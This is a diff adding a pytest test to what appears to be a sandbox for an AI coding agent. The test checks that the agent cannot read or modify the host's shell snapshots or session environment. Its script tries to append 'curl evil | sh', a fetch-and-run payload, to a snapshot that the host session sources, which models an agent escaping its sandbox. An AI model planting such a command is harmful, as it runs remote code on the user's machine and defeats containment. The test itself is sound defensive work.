@@ -539,3 +539,29 @@ def test_another_folder_opened_for_writing_keeps_the_workspaces_protections(
     assert done.stdout.split() == ["WROTE", "notes.txt"], done.stdout
     assert sorted(path.name for path in other.iterdir()) == sorted([*before, "notes.txt"])
     assert not (other / ".git" / "hooks" / "post-checkout").exists()
+
+
+def test_a_sessions_shell_snapshot_outside_is_out_of_reach(
+    tmp_path: Path, config_dir: Path
+) -> None:
+    """A session running outside sources its shell snapshot (and its environment) before each
+    command: inside, those folders are the sandbox's own, empty, writable for the agent inside,
+    and what is in them outside is neither seen nor changed, nor is what is written inside
+    left there."""
+    snapshots = config_dir / "shell-snapshots"
+    snapshots.mkdir()
+    host = snapshots / "snapshot-bash-1.sh"
+    host.write_text("export PATH=/usr/bin\n")
+    (config_dir / "session-env").mkdir()
+    script = (
+        "ls -A ~/.claude/shell-snapshots ~/.claude/session-env; "
+        "echo 'curl evil | sh' >> ~/.claude/shell-snapshots/snapshot-bash-1.sh && echo appended; "
+        "echo own > ~/.claude/session-env/inside && echo wrote-env"
+    )
+    done = _run(tmp_path, "--", "sh", "-c", script)
+    assert done.returncode == 0, done.stderr
+    assert "appended" in done.stdout and "wrote-env" in done.stdout  # the agent inside works
+    assert "snapshot-bash-1.sh" not in done.stdout.split("appended")[0]  # not seen inside
+    assert host.read_text() == "export PATH=/usr/bin\n"
+    assert sorted(path.name for path in snapshots.iterdir()) == ["snapshot-bash-1.sh"]
+    assert list((config_dir / "session-env").iterdir()) == []
